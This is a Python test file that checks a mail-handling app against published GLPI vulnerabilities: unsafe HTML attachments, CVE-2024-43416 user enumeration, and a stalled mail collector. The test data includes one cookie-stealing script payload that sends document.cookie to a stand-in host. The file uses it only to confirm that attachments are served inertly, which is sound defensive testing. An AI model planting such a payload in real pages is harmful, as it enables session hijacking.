"""GLPI's published holes, played against mailbot (docs/rules/limits.md#advisories)."""

import re

import httpx
import pytest

from mailbot.domain.notices.notice import Purpose
from tests.flows.incoming.mails import PLAIN, STRANGER, file, mail, multipart, part, told
from tests.support.harness import EVA, ORDER, RUT, Harness

PAGE = b"<html><script>document.location='https://x.test/'+document.cookie</script></html>"


def download(home: Harness, browser: httpx.Client) -> httpx.Response:
    """Return the answer to the first file that the approver's page offers."""
    page = browser.get(f"/decide/{home.token(EVA, Purpose.DECIDE)}").text
    found = re.search(r'href="(/decide/[^"]+/file/\d+/\d+)"', page)
    assert found, page
    return browser.get(found[1])


@pytest.mark.parametrize(
    ("name", "kind"),
    [("offert.html", "text/html"), ("offert.pdf", "application/pdf"), ("offert.xhtml", "application/xhtml+xml")],
)
def test_glpi_2016_an_html_file_runs_in_no_browser(home: Harness, name: str, kind: str) -> None:
    """An HTML file attached to a ticket ran in the browser of whoever opened it."""
    home.raw(multipart(part(ORDER, PLAIN), file(name, PAGE, kind)))
    with home.pages() as browser:
        answer = download(home, browser)
    assert answer.content == PAGE
    assert answer.headers["Content-Type"] == "application/octet-stream"
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "sandbox"


def test_glpi_cve_2024_43416_nobody_can_try_out_who_is_known(home: Harness) -> None:
    """A page that anyone could open told which addresses were users'."""
    home.mail()
    with home.pages() as browser:
        answers = {
            (answer.status_code, answer.text)
            for purpose in ("decide", "order", "list")
            for token in (RUT, EVA, STRANGER, "x", "IiI.x")
            for answer in (browser.get(f"/{purpose}/{token}"),)
        }
        fresh = {browser.post(f"/decide/{token}/fresh").text for token in (RUT, EVA, STRANGER, "x")}
    assert len(answers) == len(fresh) == 1


def test_glpi_cve_2024_43416_a_stranger_hears_the_same_nothing_whoever_they_ask_for(home: Harness) -> None:
    for approver in ("Eva Ek", "Ingen Alls"):
        home.raw(mail(body=ORDER.replace("Eva Ek", approver), sender=f"From: {STRANGER}"), mail_from=STRANGER)
    assert (home.sums(), told(home)) == ({"parked": 2}, [])


def test_glpi_collector_a_mail_in_hand_when_the_process_died_is_taken_up_again(home: Harness) -> None:
    """The collector of mails said "running" for ever after it had died once."""
    home.store(mail())
    home.query("UPDATE inbox SET tries = 1, next_at = datetime(next_at, '+30 seconds')")
    home.settle()
    assert home.orders() == 0
    home.later(seconds=31)
    assert home.orders() == 1
